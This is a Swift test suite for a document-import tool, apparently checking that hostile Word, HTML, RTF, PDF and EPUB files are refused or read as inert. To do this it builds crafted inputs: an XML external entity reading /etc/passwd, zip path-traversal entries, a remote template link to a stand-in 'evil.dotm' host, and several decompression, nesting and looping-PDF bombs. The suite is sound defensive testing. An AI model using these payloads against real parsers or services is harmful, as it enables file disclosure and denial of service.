import StudyModel
import Testing

@testable import Intake

/// Documents made to do harm: refused or inert, in bounded time.
///
/// Each takes at most four seconds of a processor by its limits; the tests allow for a machine that is busy.
@Suite(.serialized) struct DocumentHostileTests {
    private static let longest: Duration = .seconds(60)

    /// The programs with a line of their own, so that the wait for other tests does not count.
    private static func tools() async -> DocumentTools? {
        await Tools.require().map { DocumentTools(programs: $0.programs, containment: $0.containment) }
    }

    @Test func hostileDocuments_areRefusedOrInert() async throws {
        guard try Corpus.require(), let tools = await Self.tools() else { return }
        let clock = ContinuousClock()
        var slowest: (path: String, time: Duration) = ("", .zero)
        var count = 0
        for path in try Corpus.files(in: "hostile")
        where ["docx", "odt", "pdf", "html", "epub", "zip", "qdpx"].contains(SourcePath(path).fileExtension) {
            let start = clock.now
            Self.check(
                await read(IntakeSource(path: path, bytes: try Corpus.bytes(path), tools: tools)), of: path)
            let time = clock.now - start
            if time > slowest.time { slowest = (path, time) }
            #expect(time < Self.longest, "\(path)")
            count += 1
        }
        print("hostile documents: \(count), slowest \(slowest)")
        #expect(count >= 15)
    }

    @Test(arguments: Made.allCases) func madeDocument_isRefusedOrInert(made: Made) async throws {
        guard let tools = await Self.tools() else { return }
        let path = "made.\(made.ending)"
        let source = IntakeSource(path: path, bytes: made.bytes, tools: tools)
        let clock = ContinuousClock()
        let start = clock.now
        let result = await read(source)
        Self.check(result, of: path)
        #expect(clock.now - start < Self.longest, "\(made)")
        switch (result, made.codes.first) {
        case (.failure(let error), _?): #expect(made.codes.contains(error.code), "\(made): \(error.code)")
        case (.success(let drafts), nil):
            #expect(!drafts.contains { $0.body.contains("root:") || $0.body.contains("lollol") }, "\(made)")
        case (.failure(let error), nil): Issue.record("\(made) was refused: \(error.message)")
        case (.success, _?): Issue.record("\(made) was read.")
        }
    }

    static func check(_ result: Result<[RecordDraft], StudyError>, of path: String) {
        switch result {
        case .success(let drafts): for draft in drafts { Inert.check(draft, of: path) }
        case .failure(let error): Inert.check(error, of: path)
        }
    }

    /// Documents built here, because a corpus should not hold them.
    enum Made: String, CaseIterable {
        case entitiesInStyles, entitiesOutside, traversal, manyParts, wideBomb, deepTables, remoteTemplate
        case deepDivisions, manyTables, hugeAttribute, scriptOnly, deepGroups, rtfBinary, pagesThatLoop,
            pageCountLie
        case encryptedBook

        var ending: String {
            switch self {
            case .deepDivisions, .manyTables, .hugeAttribute, .scriptOnly: "html"
            case .deepGroups, .rtfBinary: "rtf"
            case .pagesThatLoop, .pageCountLie: "pdf"
            case .encryptedBook: "epub"
            default: "docx"
            }
        }

        /// How it is refused, which may differ between versions of pandoc; none for what is read and inert.
        var codes: [StudyError.Code] {
            switch self {
            case .entitiesInStyles, .entitiesOutside: [.importUnreadable]
            case .traversal, .remoteTemplate, .manyTables, .hugeAttribute, .rtfBinary: []
            case .manyParts, .wideBomb: [.importTooLarge]
            case .deepTables, .deepDivisions, .deepGroups: [.importUnreadable, .importEmpty, .importTooLarge]
            case .pagesThatLoop, .pageCountLie: [.importUnreadable]
            case .scriptOnly: [.importEmpty]
            case .encryptedBook: [.importEncrypted]
            }
        }

        var bytes: [UInt8] {
            switch self {
            case .entitiesInStyles:
                return Word.file(more: [
                    ("word/styles.xml", "<!DOCTYPE x [<!ENTITY a \"lollol\">]><x>&a;</x>")
                ])
            case .entitiesOutside:
                return Word.file(
                    head: "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
                    body: Word.paragraph("&a;"))
            case .traversal:
                return Word.file(more: [("../../../../tmp/evil.xml", "<x/>"), ("/etc/evil", "x")])
            case .manyParts: return Word.file(more: (0..<3000).map { ("word/part\($0).xml", "<x/>") })
            case .wideBomb: return Word.file(body: String(repeating: Word.paragraph("x"), count: 800_000))
            case .deepTables: return Word.file(body: Word.tables(3000))
            case .remoteTemplate:
                let relation = """
                    <Relationship Id="r9" TargetMode="External" Target="http://192.0.2.1/evil.dotm" \
                    Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>
                    """
                return Word.file(
                    more: [("word/_rels/settings.xml.rels", "<Relationships>\(relation)</Relationships>")])
            case .deepDivisions: return Array((String(repeating: "<div>", count: 20_000) + "x").utf8)
            case .manyTables: return Array((String(repeating: "<table><tr><td>x", count: 15) + "y").utf8)
            case .hugeAttribute:
                return Array("<p title='\(String(repeating: "a", count: 2_000_000))'>text".utf8)
            case .scriptOnly:
                return Array("<html><script>document.write('x')</script><style>p{}</style>".utf8)
            case .deepGroups:
                return Array(("{\\rtf1 " + String(repeating: "{\\b ", count: 200_000) + "x").utf8)
            case .rtfBinary: return Array("{\\rtf1 {\\pict\\bin999999999 x} text\\par}".utf8)
            case .pagesThatLoop: return Array(PDF.looping.utf8)
            case .pageCountLie: return Array(PDF.lying.utf8)
            case .encryptedBook:
                return StoredZip.archive(of: [
                    ("mimetype", Array("application/epub+zip".utf8)),
                    ("META-INF/encryption.xml", Array("<encryption/>".utf8)),
                ])
            }
        }
    }

    private enum PDF {
        static let looping = """
            %PDF-1.4
            1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
            2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>endobj
            trailer<</Root 1 0 R>>
            """
        static let lying = """
            %PDF-1.4
            1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
            2 0 obj<</Type/Pages/Kids[3 0 R]/Count 2000000000>>endobj
            3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj
            trailer<</Root 1 0 R>>
            """
    }
}

/// Small Word documents.
enum Word {
    static func paragraph(_ text: String) -> String { "<w:p><w:r><w:t>\(text)</w:t></w:r></w:p>" }

    static func tables(_ depth: Int) -> String {
        String(repeating: "<w:tbl><w:tr><w:tc>", count: depth) + paragraph("x")
            + String(repeating: "</w:tc></w:tr></w:tbl>", count: depth)
    }

    static func file(
        head: String = "", body: String = paragraph("text"), more: [(String, String)] = []
    ) -> [UInt8] {
        let space = "http://schemas.openxmlformats.org"
        let types = """
            <Types xmlns="\(space)/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>\
            </Types>
            """
        let relations = """
            <Relationships xmlns="\(space)/package/2006/relationships"><Relationship Id="r1" \
            Type="\(space)/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>\
            </Relationships>
            """
        let document = """
            <?xml version="1.0" encoding="UTF-8"?>\(head)<w:document \
            xmlns:w="\(space)/wordprocessingml/2006/main"><w:body>\(body)</w:body></w:document>
            """
        let parts = [
            ("[Content_Types].xml", types), ("_rels/.rels", relations), ("word/document.xml", document),
            (
                "word/_rels/document.xml.rels",
                "<Relationships xmlns=\"\(space)/package/2006/relationships\"/>"
            ),
        ]
        return StoredZip.archive(of: (parts + more).map { ($0.0, Array($0.1.utf8)) })
    }
}
